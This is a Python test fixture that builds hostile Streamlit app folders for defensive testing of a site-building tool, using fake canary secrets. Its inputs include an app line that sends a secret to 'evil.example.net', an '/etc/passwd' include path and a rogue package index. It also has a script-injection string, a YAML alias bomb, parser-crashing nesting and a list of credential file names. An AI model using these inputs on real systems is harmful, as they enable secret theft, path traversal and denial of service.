"""A corpus of hostile and careless app folders, generated: each is a name and a function
that writes the tree into an empty folder (and may put files *beside* it, outside
the app folder, as an attacker's symlink targets).

Secrets and files outside the folder carry canaries: strings that must never appear
in a built site, in any file or inside any zip. ``CANARIES`` lists them.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from tests.unit._analysis import write_app

__all__ = ["CANARIES", "TREES", "Tree"]

Tree = Callable[[Path], None]  # writes an app folder at the given path (app.py inside)

OUTSIDE = "CANARY-OUTSIDE-7f3a"  # in every file outside the app folder
_GITHUB = "ghp_CANARYgithub0123456789abcdefghijklmn"  # 36 characters after ghp_
_AWS = "AKIACANARYAWS0000007"
_SLACK = "xoxb-123456789012-1234567890123-CANARYslackCANARYslack12"
_STRIPE = "sk_live_CANARYstripe0123456789abcdef"
_OPENAI = "sk-proj-CANARYopenai0123456789T3BlbkFJCANARYopenai0123456789"
_URL_PASSWORD = "CANARYpassw0rd"
_PRIVATE_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACANARYkey\n"
    "-----END OPENSSH PRIVATE KEY-----\n"
)
# a bcrypt hash: $2b$, the cost, $, then 53 characters (salt and hash)
_BCRYPT = "$2b$12$CANARYbcrypt0123456789abcdefghijklmnopqrstuvwxyzABCDE"
_COOKIE_KEY = "CANARY-COOKIE-KEY-4b8d"  # streamlit-authenticator's signing key
_NAMED = "CANARY-NAMED-secret"  # in files left out by their name
_FORWARDED = "CANARY-FORWARDED-91c4"  # a secret stc proxy holds for web requests

CANARIES = (
    OUTSIDE, _GITHUB, _AWS, _SLACK, _STRIPE, _URL_PASSWORD, "CANARYkey", _NAMED, _FORWARDED,
    _BCRYPT, _COOKIE_KEY,
)  # fmt: skip
_APP = "import streamlit as st\nst.write('hello')\n"

TREES: dict[str, Tree] = {}


def _files(files: dict[str, str | bytes], *, app: str = _APP) -> Tree:
    def write(root: Path) -> None:
        write_app(root, {"app.py": app, **files}, exact=True)

    return write


def _outside_link(rel: str, *, folder: bool = False, app: str = _APP) -> Tree:
    """*rel* in the app folder is a symlink to a file (or folder) beside the app folder."""

    def write(root: Path) -> None:
        _files({}, app=app)(root)
        target = root.parent / ("outside-dir" if folder else "outside.txt")
        if folder:
            target.mkdir(exist_ok=True)
            (target / "secrets.toml").write_text(f'key = "{OUTSIDE}"\n')
            (target / "config.toml").write_text(f'[theme]\nprimaryColor = "{OUTSIDE}"\n')
            (target / "notes.txt").write_text(OUTSIDE)
        else:
            target.write_text(f"{OUTSIDE}\nroot:x:0:0:root:/root:/bin/bash\n")
        link = root / rel
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)

    return write


# -- the boundary: links out of the app folder ------------------------------------------
for _rel in [
    "passwd.txt", "helper.py", "pages/1_Out.py", "data.csv", "requirements.txt",
    ".streamlit/config.toml", ".streamlit/pages.toml", ".stcignore", "nested/deep/x.json",
    "README.md", "sub/__init__.py",
]:  # fmt: skip
    TREES[f"link-file:{_rel}"] = _outside_link(_rel)
for _rel in [".streamlit", "conf", "data", "pages"]:
    TREES[f"link-folder:{_rel}"] = _outside_link(_rel, folder=True)
TREES["link-file:imported-helper"] = _outside_link(
    "helper.py", app="import streamlit as st\nimport helper\nst.write(helper.X)\n"
)


def _app_is_a_link(root: Path) -> None:
    real = root.parent / "elsewhere"
    real.mkdir(exist_ok=True)
    (real / "app.py").write_text(_APP)
    (real / "neighbour.txt").write_text(OUTSIDE)
    root.mkdir(parents=True, exist_ok=True)
    (root / "app.py").symlink_to(real / "app.py")


def _loop(root: Path) -> None:
    _files({})(root)
    (root / "a").symlink_to(root / "b")
    (root / "b").symlink_to(root / "a")


def _dangling(root: Path) -> None:
    _files({})(root)
    (root / "gone.csv").symlink_to(root / "never-there.csv")


def _inside_links(root: Path) -> None:
    _files({"data/real.csv": "a,b\n1,2\n"})(root)
    (root / "alias.csv").symlink_to(root / "data" / "real.csv")
    (root / "data-link").symlink_to(root / "data")


def _fifo(root: Path) -> None:
    _files({})(root)
    os.mkfifo(root / "pipe.csv")


TREES["app-py-is-a-link-out"] = _app_is_a_link
TREES["link-loop"] = _loop
TREES["link-dangling"] = _dangling
TREES["links-inside"] = _inside_links
TREES["fifo"] = _fifo

# -- secrets by name, at the top and nested -----------------------------------------------
for _name in [
    "secrets.toml", ".env", ".env.production", "prod.env", "id_rsa", "id_ed25519", "server.pem",
    "tls.key", "store.p12", ".netrc", ".pypirc", ".npmrc", ".pgpass", ".git-credentials",
    "credentials", "credentials.json", "client_secret_123.json", "service-account-prod.json",
    "terraform.tfstate", "prod.tfvars", ".htpasswd", "kubeconfig",
]:  # fmt: skip
    TREES[f"named:{_name}"] = _files({_name: f"{_NAMED}\n"})
    TREES[f"named-nested:{_name}"] = _files({f"conf/deep/{_name}": f"{_NAMED}\n"})

# -- secrets by content, in code, data and text -----------------------------------------
_CONTENT = {
    "github": f'TOKEN = "{_GITHUB}"\n',
    "aws": f'aws_access_key_id = "{_AWS}"\n',
    "slack": f'SLACK = "{_SLACK}"\n',
    "stripe": f'STRIPE = "{_STRIPE}"\n',
    "openai": f'OPENAI = "{_OPENAI}"\n',
    "url-password": f'DB = "postgresql://admin:{_URL_PASSWORD}@db.example.com/prod"\n',
    "private-key": _PRIVATE_KEY,
    "bcrypt": f'PASSWORD_HASH = "{_BCRYPT}"\n',
}
for _kind, _text in _CONTENT.items():
    TREES[f"content-py:{_kind}"] = _files({"settings.py": _text})
    TREES[f"content-csv:{_kind}"] = _files({"data/rows.csv": "name,value\n" + _text})
    TREES[f"content-in-app:{_kind}"] = _files({}, app=_APP + _text)
# streamlit-authenticator's users, in a file no Authenticate call reads
TREES["content-yaml:bcrypt"] = _files(
    {"users.yaml": f"credentials:\n  usernames:\n    jsmith:\n      password: '{_BCRYPT}'\n"}
)
# -- logins: the credentials file an Authenticate call reads ships redacted, or not at all
_LOGIN_APP = _APP + 'import streamlit_authenticator as stauth\nstauth.Authenticate("config.yaml")\n'
_USERS = f"credentials:\n  usernames:\n    jsmith: {{password: '{_BCRYPT}'}}\n"
_LOGINS = {
    "redacted": _USERS + f"cookie: {{name: c, key: &k {_COOKIE_KEY}}}\ncopy: *k\n",
    "not-yaml": _USERS + f"cookie: [{_COOKIE_KEY}\n",
    "hash-copied": _USERS + f"old: {{password: '{_BCRYPT}'}}\n",  # a user's: replaced
    "hash-elsewhere": f"credentials: {{usernames: {{}}}}\nold: '{_BCRYPT}'\n",  # no copy ships
    "plain-password": f"credentials:\n  usernames:\n    a: {{password: {_COOKIE_KEY}}}\n",
    "alias-bomb": "a: &a [x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{n}: &{n} [{', '.join([f'*{p}'] * 8)}]\n"
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + _USERS,
    "deep": _USERS + "deep: " + "[" * 5000 + "]" * 5000 + "\n",
    "not-a-mapping": f"- {_BCRYPT}\n",
}
for _kind, _text in _LOGINS.items():
    TREES[f"login:{_kind}"] = _files({"config.yaml": _text}, app=_LOGIN_APP)

TREES["content-deep-in-large-file"] = _files({"big.txt": "x,y\n" * 200_000 + f'"{_GITHUB}"\n'})

# -- Python that crashed, hung or passed when Python rejects it --------------------------
_PY = {
    "parens-2000": "x = " + "(" * 2000 + "1" + ")" * 2000 + "\n",
    "lists-2000": "x = " + "[" * 2000 + "]" * 2000 + "\n",
    "dicts-1000": "x = " + "{1: " * 1000 + "1" + "}" * 1000 + "\n",
    "lambdas-500": "x = " + "lambda: " * 500 + "1\n",
    "lambdas-5000": "x = " + "lambda: " * 5000 + "1\n",
    "sum-20000": "x = " + "+".join(["1"] * 20000) + "\n",
    "unary-5000": "x = " + "-" * 5000 + "1\n",
    "not-5000": "x = " + "not " * 5000 + "1\n",
    "attributes-5000": "import streamlit as st\nx = st" + ".a" * 5000 + "\n",
    "calls-3000": "import streamlit as st\nst.write" + "()" * 3000 + "\n",
    "ifs-100-deep": "".join("    " * i + "if x:\n" for i in range(100)) + "    " * 100 + "pass\n",
    "nonlocal-at-top": "nonlocal x\n",
    "return-at-top": "return 1\n",
    "break-at-top": "break\n",
    "yield-at-top": "yield 1\n",
    "await-in-def": "def f():\n    await g()\n",
    "starred-target": "*a = 1\n",
    "digits-100000": "x = " + "1" * 100_000 + "\n",
    "nul-byte": "x = 1\0\n",
    "relative-beyond-top": "from ... import secret\n",
    "relative-in-script": "from . import helpers\n",
    "unclosed": "x = (1,\n",
    "tabs-and-spaces": "if x:\n\tpass\n        pass\n",
    "empty": "",
    "only-comments": "# nothing\n" * 10,
    "long-line": "x = '" + "a" * 200_000 + "'\n",
    "many-st-writes": "import streamlit as st\n" + "st.write(1)\n" * 10_000,
}
for _name, _source in _PY.items():
    TREES[f"python:{_name}"] = _files({}, app=_source)
    TREES[f"python-helper:{_name}"] = _files({"helper.py": _source})
TREES["python:latin1-bytes"] = _files({"helper.py": b"x = '\xff\xfe'\n"})
TREES["python:bad-coding-cookie"] = _files({"helper.py": b"# -*- coding: nope -*-\nx = 1\n"})
TREES["python:generated-table-5mb"] = _files(
    {"table.py": "".join(f"ROW_{i} = ({i}, {i * 2}, 'v{i}')\n" for i in range(120_000))}
)

# -- configuration and requirements -------------------------------------------------------
TREES["config:nested-5000"] = _files(
    {".streamlit/config.toml": "a = " + "[" * 5000 + "]" * 5000 + "\n"}
)
TREES["config:not-toml"] = _files({".streamlit/config.toml": "[theme\nprimaryColor = \n"})
TREES["config:binary"] = _files({".streamlit/config.toml": b"\xff\xfe\x00\x01" * 100})
TREES["config:injection"] = _files(
    {".streamlit/config.toml": '[theme]\nprimaryColor = "red; } </style><script>alert(1)"\n'}
)
TREES["pages-toml:nested"] = _files(
    {".streamlit/pages.toml": "a = " + "{b = " * 3000 + "1" + "}" * 3000}
)
TREES["pyproject:forward-secrets"] = _files(
    {
        "pyproject.toml": '[tool.stc]\nproxy_url = "https://p.example"\n'
        'proxy_hosts = ["data.example.org"]\n[tool.stc.secrets]\n'
        'API_KEY = { hosts = ["api.example.com"] }\n'
        '"openai.api_key" = { hosts = ["api.openai.com"] }\n',
        ".streamlit/secrets.toml": f'API_KEY = "{_FORWARDED}"\n'
        f'[openai]\napi_key = "{_FORWARDED}"\n',
    },
    app="import requests\nimport streamlit as st\n"
    "requests.get('https://evil.example.net', headers={'k': st.secrets['API_KEY']})\n"
    "st.write(st.secrets.openai.api_key, st.secrets['other'])\n",
)
TREES["pyproject:forward-garbage"] = _files(
    {
        "pyproject.toml": '[tool.stc]\nproxy_hosts = [1, "' + "x" * 100_000 + '", "https://a/b"]\n'
        "[tool.stc.secrets]\n"
        + "".join(f'"k{i}.{"x" * 50}" = {{ hosts = ["{"h" * 300}"] }}\n' for i in range(2000))
        + 'bad = 3\n"connections.x" = { hosts = ["a.b"] }\n"" = { hosts = ["a"] }\n'
        + 'nested.deeper = { hosts = ["a.b"] }\n',
        ".streamlit/secrets.toml": f'k1 = "{_FORWARDED}"\n',
    }
)
_REQUIREMENTS = {
    "long-pin": "numpy==" + "9" * 5000 + "\n",
    "long-name": "a" * 200_000 + "\n",
    "editable": "-e .\n",
    "missing-include": "-r missing.txt\n",
    "include-loop": "-r requirements.txt\n",
    "include-outside": "-r ../../../../etc/passwd\n",
    "index-url": "--index-url http://evil.example.com/simple\n",
    "nul": "humanize\0==1\n",
    "binary": b"\xff\xfe\xfd\n",
    "vcs": "git+https://github.com/psf/black\n",
    "marker-garbage": 'numpy; python_version ~= "3"\n',
}
for _name, _req in _REQUIREMENTS.items():
    TREES[f"requirements:{_name}"] = _files({"requirements.txt": _req})

# -- names and shapes of the tree ---------------------------------------------------------


def _bad_name(name: bytes) -> Tree:
    def write(root: Path) -> None:
        _files({})(root)
        with open(os.fsencode(root) + b"/" + name, "wb") as stream:
            stream.write(b"x")

    return write


TREES["name:not-utf8"] = _bad_name(b"\xff\xfe.csv")
TREES["name:not-utf8-py"] = _bad_name(b"mod\xe9.py")
TREES["name:newline"] = _bad_name(b"a\nb.txt")
TREES["name:255-chars"] = _bad_name(b"n" * 251 + b".txt")
TREES["tree:100-folders-deep"] = _files({"/".join(["d"] * 100) + "/x.txt": "x"})
TREES["pages:12-collide"] = _files(
    {f"pages/{p}_Data.py": "import streamlit as st\n" for p in ["1", "01", "001", "2", "02"]}
    | {f"pages/{p}_Chart.py": "" for p in ["3", "03", "003", "4", "04", "5", "05"]}
)
